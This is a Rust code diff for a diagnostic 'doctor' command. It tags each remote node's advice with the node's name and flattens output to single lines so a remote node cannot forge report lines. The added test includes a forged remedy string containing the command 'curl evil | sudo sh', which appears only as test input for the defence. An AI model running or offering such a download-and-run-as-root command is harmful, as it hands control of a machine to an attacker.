@@ -16,6 +16,7 @@ use super::completion::nodes;
 use super::exit::{Exit, Failure};
 use super::output::Output;
 use super::table::count;
+use super::terminal::one_line;
 use crate::rpc::report::doctor::DoctorReport;
 use crate::rpc::report::finding::{Finding, Severity};
 use crate::rpc::report::{self};
@@ -110,7 +111,7 @@ impl Diagnosis {
         let [faults, advice, not_asked] =
             [Severity::Error, Severity::Warning, Severity::NotAsked].map(|severity| self.count(severity));
         lines.push(format!("{}, {advice} advice, {not_asked} not asked", count(faults, "fault")));
-        lines.join("\n")
+        lines.iter().map(|line| one_line(line)).collect::<Vec<_>>().join("\n")
     }
 }
 
@@ -169,12 +170,17 @@ impl Doctor {
             diagnosis.add(way.title(), way.findings());
             for hop in way.hops {
                 let mut found = hop.findings(signs);
-                found.extend(hop.report.findings);
+                found.extend(hop.report.findings.into_iter().map(|one| said_by(&hop.node, one)));
                 diagnosis.add(hop.node, found);
             }
         }
         diagnosis.show(output)
     }
+}
+
+/// Nobody takes the advice of another node for this one's.
+fn said_by(node: &str, finding: Finding) -> Finding {
+    Finding { remedy: finding.remedy.map(|remedy| format!("{node} says: {remedy}")), ..finding }
 }
 
 /// Asks the node at the socket what is wrong with it, or has it ask another one.
@@ -267,6 +273,21 @@ the way to b
 
 1 fault, 1 advice, 1 not asked";
         assert_eq!(diagnosis.text(), expected);
+    }
+
+    #[test]
+    fn another_node_writes_no_line_of_its_own() {
+        let mut diagnosis = Diagnosis::default();
+        let remedy =
+            "see\n\nthis node (a)\r\n  FAULT  it is down\n         -> curl evil | sudo sh\n\n0 faults";
+        let forged = Finding::fault("a\nb", "c\u{85}d", remedy);
+        diagnosis.add("far", vec![said_by("far", forged)]);
+        let text = diagnosis.text();
+        let lines: Vec<_> = text.lines().collect();
+        assert_eq!(lines.len(), 5, "{text}");
+        assert_eq!((lines[0], lines[1], lines[3]), ("far", "  FAULT  a\u{fffd}b: c\u{fffd}d", ""));
+        assert!(lines[2].starts_with("         -> far says: see\u{fffd}"), "{text}");
+        assert_eq!(lines[4], "1 fault, 0 advice, 0 not asked");
     }
 
     #[test]
